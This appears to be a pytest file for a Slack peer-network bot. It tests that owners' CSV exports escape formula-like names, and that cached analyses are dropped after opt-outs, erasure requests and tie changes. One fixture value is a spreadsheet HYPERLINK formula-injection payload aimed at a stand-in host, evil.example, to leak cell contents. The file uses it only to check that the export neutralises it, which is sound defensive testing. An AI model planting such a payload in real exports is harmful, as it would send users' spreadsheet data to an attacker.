"""Programme owners' files and answers: formula-safe CSVs (issue 10, item 4) and answers
from one cached analysis that never outlives a change of the ties or of anyone's privacy
choice (issue 13, item 3). On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from slack_sdk import WebClient

from bot import db
from bot.config import load_settings
from bot.models import Workspace
from bot.services import Services
from bot.services import network as network_service
from bot.services.analysis_cache import MAX_AGE, analyses
from bot.services.roster import apply_user
from bot.services.ties import NewTie, record_tie
from bot.services.workspace import ensure_workspace

NOW = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
OWNER = "UOWNER"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Alex")'


def user(uid: str, display: str) -> dict[str, object]:
    return {"id": uid, "name": uid.lower(), "real_name": display,
            "profile": {"display_name": display, "real_name": display}}


PEOPLE = [user(OWNER, "Olive"), user("UALEX", EVIL), user("UBEA", "@Bea"),
          user("UCAL", "Cal"), user("UDEV", "-Devi+1"), user("UEVE", "Eve")]
TIES = [("UALEX", "UBEA"), ("UBEA", "UCAL"), ("UCAL", "UEVE"), ("UEVE", "UALEX"),
        ("UDEV", "UEVE"), ("UBEA", "UEVE"), ("UOWNER", "UBEA"), ("UCAL", "UDEV")]


@pytest.fixture
def services(database_url: str, tmp_path: Path) -> Iterator[Services]:
    db.upgrade(database_url)
    settings = load_settings(None, DATABASE_URL=database_url, PEERPULSE_OWNERS=OWNER,
                             PEERPULSE_DATA_DIR=str(tmp_path / "data"))
    sessions = db.make_session_factory(db.make_engine(database_url))
    clock = [NOW]
    s = Services(settings=settings, sessions=sessions,
                 client=WebClient(base_url="http://127.0.0.1:9/api/"), clock=lambda: clock[0])
    s.test_clock = clock  # type: ignore[attr-defined]
    with db.transaction(sessions) as session:
        ws = ensure_workspace(session, "T1", "Acme")
        for u in PEOPLE:
            apply_user(session, ws, u)
        session.flush()
        for i, (a, b) in enumerate(TIES):
            record_tie(session, ws, NewTie(a, b, "helped", "poll", f"seed:{i}",
                                           NOW - timedelta(days=2 + i)))
        s.workspace_id = ws.id
    analyses.clear()
    yield s
    analyses.clear()
    sessions.kw["bind"].dispose()


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def risky(values: list[str]) -> list[str]:
    return [c for c in values if c and c[0] in "=+-@\t\r"]


# Issue 10, item 4: every CSV an owner receives is safe to open in a spreadsheet ---------

def test_export_csvs_neutralise_formula_names(services: Services) -> None:
    ties_path, people_path, *_ = services.call(network_service.export_for_owner, OWNER)
    people = cells(people_path)
    assert risky(people) == [] and risky(cells(ties_path)) == []
    assert "'" + EVIL in people and "'@Bea" in people and "'-Devi+1" in people


def test_snapshot_people_csv_neutralises_formula_names(services: Services) -> None:
    snap = services.call(network_service.take_snapshot, OWNER, 30)
    people = cells(snap.files["people.csv"])
    assert risky(people) == []
    assert "'" + EVIL in people and "'@Bea" in people


# Issue 13, item 3: owners answered from one cached analysis --------------------------------

@pytest.fixture
def analyse_calls(monkeypatch: pytest.MonkeyPatch) -> list[float]:
    """Every run of the analysis pipeline for an owner, by its window end."""
    calls: list[float] = []
    real = network_service.analyze

    def counting(ties, people, options, *args, **kwargs):  # type: ignore[no-untyped-def]
        calls.append(options.now.timestamp())
        return real(ties, people, options, *args, **kwargs)

    monkeypatch.setattr(network_service, "analyze", counting)
    return calls


def every_cached_person() -> set[str]:
    return {node for _, entry in analyses._entries.items() for node in entry.analysis.graph}


def test_person_champions_and_compare_reuse_the_snapshot(
        services: Services, analyse_calls: list[float]) -> None:
    services.call(network_service.take_snapshot, OWNER, None)
    assert len(analyse_calls) == 1
    ego = services.call(network_service.ego, OWNER, "UEVE")
    assert sorted(ego["named_by"]) == ["UBEA", "UCAL", "UDEV"] and ego["names"] == ["UALEX"]
    five = services.call(network_service.champions, OWNER, 5)
    three = services.call(network_service.champions, OWNER, 3)
    assert len(analyse_calls) == 1  # person and champions: no new analysis
    assert len(three["picks"].recommended.ids) == 3 and five["picks"].k == 5
    # the picks for another k equal what a fresh analysis with that k recommends
    fresh = services.call(network_service._analyse, 90, champions_k=3)
    assert three["picks"] == fresh.result.recommendation
    del analyse_calls[:]
    services.call(network_service.compare, OWNER)
    services.call(network_service.compare, OWNER)
    services.call(network_service.ego, OWNER, "UBEA")
    # the window before is only built as a graph; this window is the cached one
    assert len(analyse_calls) == 0


def test_compare_from_the_graph_before_equals_a_whole_analysis_of_it(
        services: Services, analyse_calls: list[float]) -> None:
    """The window before, built as a bare graph from the cached inputs, gives the same
    comparison (and names) as a whole analysis of that window on the same data did."""
    from analytics.diff import diff_snapshots
    from bot.models import Person

    with db.transaction(services.sessions) as session:
        ws = session.get(Workspace, services.workspace_id)
        for i, (a, b) in enumerate([("UALEX", "UCAL"), ("UCAL", "UBEA"), ("UDEV", "UALEX"),
                                    ("UEVE", "UDEV"), ("UBEA", "UDEV"), ("UALEX", "UBEA"),
                                    ("UDEV", "UCAL"), ("UOWNER", "UEVE")]):
            record_tie(session, ws, NewTie(a, b, "helped", "poll", f"old:{i}",
                                           NOW - timedelta(days=95 + 9 * i)))
        # on the windows' edges: only in the window before, only in this one
        for key, (a, b), days in (("edge:1", ("UEVE", "UOWNER"), 179.5),
                                  ("edge:2", ("UCAL", "UALEX"), 89.5)):
            record_tie(session, ws, NewTie(a, b, "helped", "poll", key,
                                           NOW - timedelta(days=days)))
        teams = {"UALEX": "Sales", "UBEA": "Sales", "UCAL": "Data", "UDEV": "Data",
                 "UEVE": "Data", OWNER: "Sales"}
        for person in session.query(Person).filter(Person.workspace_id == ws.id):
            person.team = teams[person.slack_id]
            person.is_champion = person.slack_id == "UBEA"
    services.call(network_service.take_snapshot, OWNER, None)
    c = services.call(network_service.compare, OWNER)
    assert len(analyse_calls) == 1  # the snapshot's; compare analysed nothing more

    def whole(u):  # type: ignore[no-untyped-def]
        after = network_service._current(u, 90)[0].analysis
        end = after.result.options.now
        before = network_service._analyse(u, 90, now=end - timedelta(days=90))
        return (diff_snapshots(before, after, min_group_size=u.prefs.min_group_size),
                before.result.names() | after.result.names())

    diff, names = services.call(whole)
    assert len(analyse_calls) == 2  # the whole analysis of the window before, for reference
    assert c["diff"] == {**diff, "first_run": False} and c["names"] == names
    # and the comparison has something in it: ties on both sides, a team pair, movers
    assert diff["ties"]["before"] and diff["lost_ties"] and diff["new_ties"]
    assert diff["teams_cut_off"] or diff["teams_connected"] or diff["rising"]


def test_a_new_tie_is_seen_at_once(services: Services, analyse_calls: list[float]) -> None:
    services.call(network_service.take_snapshot, OWNER, None)
    before = services.call(network_service.ego, OWNER, "UCAL")
    assert "UALEX" not in before["named_by"]
    with db.transaction(services.sessions) as session:
        ws = session.get(Workspace, services.workspace_id)
        record_tie(session, ws, NewTie("UALEX", "UCAL", "helped", "poll", "new:1",
                                       NOW - timedelta(days=1)))
    after = services.call(network_service.ego, OWNER, "UCAL")
    assert "UALEX" in after["named_by"] and len(analyse_calls) == 2


@pytest.mark.parametrize("how", ["opt out", "forget me"])
def test_opted_out_and_erased_people_disappear_from_cached_answers(
        services: Services, analyse_calls: list[float], how: str) -> None:
    services.call(network_service.take_snapshot, OWNER, None)
    assert "UCAL" in services.call(network_service.ego, OWNER, "UEVE")["named_by"]
    assert "UCAL" in every_cached_person()
    if how == "opt out":
        services.call(network_service.set_opt_out, "UCAL", True)
    else:
        services.call(network_service.forget_me, "UCAL")
    ego = services.call(network_service.ego, OWNER, "UEVE")
    assert "UCAL" not in ego["named_by"]
    champions = services.call(network_service.champions, OWNER, 3)
    assert "UCAL" not in champions["names"]
    assert "UCAL" not in str(services.call(network_service.compare, OWNER))
    with pytest.raises(Exception, match="UCAL"):
        services.call(network_service.ego, OWNER, "UCAL")
    assert "UCAL" not in every_cached_person()  # the old analysis is gone from memory too


def test_an_old_cached_analysis_is_computed_again(
        services: Services, analyse_calls: list[float]) -> None:
    services.call(network_service.ego, OWNER, "UEVE")
    services.call(network_service.ego, OWNER, "UEVE")
    assert len(analyse_calls) == 1
    services.test_clock[0] = NOW + MAX_AGE + timedelta(minutes=1)  # type: ignore[attr-defined]
    services.call(network_service.ego, OWNER, "UEVE")
    assert len(analyse_calls) == 2 and analyse_calls[-1] > analyse_calls[0]


# New ties: answered at once from the cached analysis, refreshed in the background ---------

def add_tie(services: Services, source: str, target: str, key: str,
            days_ago: float = 1) -> None:
    with db.transaction(services.sessions) as session:
        ws = session.get(Workspace, services.workspace_id)
        record_tie(session, ws, NewTie(source, target, "helped", "poll", key,
                                       NOW - timedelta(days=days_ago)))


@pytest.fixture
def busy(services: Services) -> Services:
    """45 ties, so one or two new ones stay within STALE_MAX_SHARE (5%), three do not;
    one of them older than the retention period, one the only UALEX -> UDEV; then a
    snapshot."""
    with db.transaction(services.sessions) as session:
        ws = session.get(Workspace, services.workspace_id)
        for i in range(35):
            a, b = TIES[i % len(TIES)]
            record_tie(session, ws, NewTie(a, b, "helped", "poll", f"more:{i}",
                                           NOW - timedelta(days=10 + i)))
        record_tie(session, ws, NewTie("UDEV", "UBEA", "helped", "poll", "ancient",
                                       NOW - timedelta(days=600)))
        record_tie(session, ws, NewTie("UALEX", "UDEV", "helped", "poll", "lone",
                                       NOW - timedelta(days=3)))
    services.call(network_service.take_snapshot, OWNER, None)
    return services


def named_by(services: Services, person: str) -> tuple[list[str], network_service.Freshness]:
    e = network_service.ask(services, network_service.ego, OWNER, person)
    return e["named_by"], e["freshness"]


def test_new_ties_are_answered_at_once_then_refreshed_in_the_background(
        busy: Services, analyse_calls: list[float]) -> None:
    from bot.rendering import render

    add_tie(busy, "UALEX", "UCAL", "new:1")
    e = network_service.ask(busy, network_service.ego, OWNER, "UCAL")
    assert "UALEX" not in e["named_by"]  # the cached analysis: figures as of the snapshot
    fresh = e["freshness"]
    assert (fresh.as_of, fresh.behind) == (NOW, 1)
    text = render("network_person.j2", e=e, fresh=fresh)
    assert text.startswith("_Figures as of 10:00 UTC; 1 tie recorded since is being added._")
    assert analyses.wait_for_refreshes(60)
    assert len(analyse_calls) == 1  # one refresh, in the background
    named, fresh = named_by(busy, "UCAL")
    assert "UALEX" in named and fresh.behind == 0
    assert "Figures as of" not in render("network_person.j2", e=e, fresh=fresh)
    # champions and compare answer from the same refreshed analysis; nothing more is run
    c = network_service.ask(busy, network_service.champions, OWNER, 3)
    d = network_service.ask(busy, network_service.compare, OWNER)
    assert c["freshness"].behind == 0 and d["freshness"].behind == 0
    assert len(analyse_calls) == 1 and every_cached_person() >= {"UALEX", "UCAL"}
    # the champions and compare answers say it the same way (as the handlers render them)
    p = c["picks"]
    for name, context in (
            ("network_champions.j2", {"k": 3, "rec": p.recommended, "cur": p.current,
                                      "top": p.top_degree, "rnd": p.random,
                                      "names": c["names"], "gain": c["gain"],
                                      "people": c["people"]}),
            ("network_compare.j2", {"days": d["days"], "d": d["diff"], "names": d["names"]})):
        assert render(name, **context, fresh=e["freshness"]).startswith(
            "_Figures as of 10:00 UTC; 1 tie recorded since is being added._\n"), name
        assert "Figures as of" not in render(name, **context, fresh=c["freshness"])


def test_one_refresh_at_a_time_and_questions_meanwhile_answer_at_once(
        busy: Services, analyse_calls: list[float]) -> None:
    add_tie(busy, "UALEX", "UCAL", "new:1")
    answers = [network_service.ask(busy, use_case, OWNER, *args) for use_case, args in (
        (network_service.ego, ("UCAL",)), (network_service.champions, (3,)),
        (network_service.compare, ()), (network_service.ego, ("UEVE",)))]
    assert analyses.wait_for_refreshes(60)
    # each answered at once (from the snapshot's analysis, or the refreshed one if it had
    # landed already); whatever the timing, the new state was analysed exactly once
    assert all(a["freshness"].behind in (0, 1) for a in answers)
    assert answers[0]["freshness"].behind == 1
    assert len(analyse_calls) == 1
    add_tie(busy, "UBEA", "UDEV", "new:2")  # after the refresh: the next one starts
    assert named_by(busy, "UDEV")[1].behind == 1
    assert analyses.wait_for_refreshes(60) and len(analyse_calls) == 2
    assert "UBEA" in named_by(busy, "UDEV")[0]


def test_a_question_for_a_key_being_refreshed_waits_for_that_computation() -> None:
    """Never two computations of one key: `get` while a refresh computes it waits for it."""
    import threading

    from analytics.model import Tie as ATie
    from analytics.pipeline import analyze
    from bot.services.analysis_cache import AnalysisCache, CacheKey, DataState

    cache = AnalysisCache()
    state = DataState(1, 1, NOW, (2, 2, NOW, 0, 2, 0))
    key = CacheKey("db", 1, state, ("current", 90, 5))
    started, release, runs = threading.Event(), threading.Event(), []

    def compute():  # type: ignore[no-untyped-def]
        runs.append(1)
        started.set()
        release.wait(10)
        return analyze([ATie("a", "b")]), None

    assert cache.refresh(key, lambda: cache.get(key, NOW, compute))
    assert started.wait(10)
    assert not cache.refresh(key, lambda: cache.get(key, NOW, compute))  # one at a time
    got: list[object] = []
    waiting = threading.Thread(target=lambda: got.append(cache.get(key, NOW, compute)))
    waiting.start()
    waiting.join(0.2)
    assert waiting.is_alive()  # waiting for the refresh, not computing a second time
    release.set()
    waiting.join(10)
    assert cache.wait_for_refreshes(10)
    assert len(runs) == 1 and cache.computed == 1 and got[0] is cache._entries[key]


def remove_a_tie_in_the_window(services: Services) -> None:
    """As an undone kudos does: the only UALEX -> UDEV tie goes."""
    from sqlalchemy import delete

    from bot.models import Tie

    with db.transaction(services.sessions) as session:
        session.execute(delete(Tie).where(Tie.origin_key == "lone"))


def purge(services: Services) -> None:
    from bot.services.retention import purge as retention_purge

    assert services.call(retention_purge).ties == 1  # the 600-day-old tie


def remove_the_newest_tie(services: Services) -> None:
    """The newest tie goes and another comes: SQLite gives it the freed id again (so the
    ties up to the cached highest id are as many as before), caught by its creation time."""
    from sqlalchemy import delete, func, select

    from bot.models import Tie

    with db.transaction(services.sessions) as session:
        newest = session.scalar(select(func.max(Tie.id)))
        session.execute(delete(Tie).where(Tie.id == newest))
    add_tie(services, "UDEV", "UCAL", "replacement")


@pytest.mark.parametrize("change", ["opt out", "forget me", "undone tie", "retention purge",
                                    "newest tie replaced", "champion", "roster"])
def test_any_change_but_new_ties_invalidates_at_once(
        busy: Services, analyse_calls: list[float], change: str) -> None:
    assert "UCAL" in named_by(busy, "UEVE")[0] and "UALEX" in named_by(busy, "UDEV")[0]
    if change != "newest tie replaced":
        add_tie(busy, "UALEX", "UCAL", "new:1")
    if change == "opt out":
        busy.call(network_service.set_opt_out, "UCAL", True)
    elif change == "forget me":
        busy.call(network_service.forget_me, "UCAL")
    elif change == "undone tie":
        remove_a_tie_in_the_window(busy)
        add_tie(busy, "UBEA", "UDEV", "new:2")  # so the count alone would not tell
    elif change == "retention purge":
        purge(busy)
        add_tie(busy, "UBEA", "UDEV", "new:2")
    elif change == "newest tie replaced":
        remove_the_newest_tie(busy)  # the analysis counted it ...
        add_tie(busy, "UALEX", "UCAL", "new:1")  # ... and two more new ones
        add_tie(busy, "UBEA", "UDEV", "new:2")
    elif change == "champion":
        busy.call(network_service.change_champion, OWNER, "UDEV", True)
    else:
        with db.transaction(busy.sessions) as session:
            apply_user(session, session.get(Workspace, busy.workspace_id),
                       user("UFAY", "Fay"))
    e = network_service.ask(busy, network_service.ego, OWNER, "UEVE")
    assert e["freshness"].behind == 0  # computed now, not answered from the old analysis
    assert len(analyse_calls) == 1 and analyses.wait_for_refreshes(60)
    assert len(analyse_calls) == 1  # and no refresh behind it
    if change in ("opt out", "forget me"):
        assert "UCAL" not in e["named_by"] and "UCAL" not in every_cached_person()
    if change == "undone tie":
        assert "UALEX" not in named_by(busy, "UDEV")[0]  # the only tie between them is gone
    if change == "champion":
        c = network_service.ask(busy, network_service.champions, OWNER, 3)
        assert "UDEV" in c["picks"].current.ids
    if change == "roster":
        assert "UFAY" in every_cached_person()


@pytest.mark.parametrize("bound", ["age", "share"])
def test_a_stale_analysis_is_answered_from_only_within_its_bounds(
        busy: Services, analyse_calls: list[float], bound: str) -> None:
    from bot.services.analysis_cache import STALE_MAX_AGE

    if bound == "age":  # one new tie, but the cached analysis is too old
        busy.test_clock[0] = NOW + STALE_MAX_AGE + timedelta(minutes=1)  # type: ignore[attr-defined]
        add_tie(busy, "UALEX", "UCAL", "new:1")
    else:  # three new ties: more than 5% of the 45 it counted
        for i, (a, b) in enumerate([("UALEX", "UCAL"), ("UBEA", "UDEV"), ("UEVE", "UBEA")]):
            add_tie(busy, a, b, f"new:{i}")
    named, fresh = named_by(busy, "UCAL")
    assert "UALEX" in named and fresh.behind == 0 and len(analyse_calls) == 1
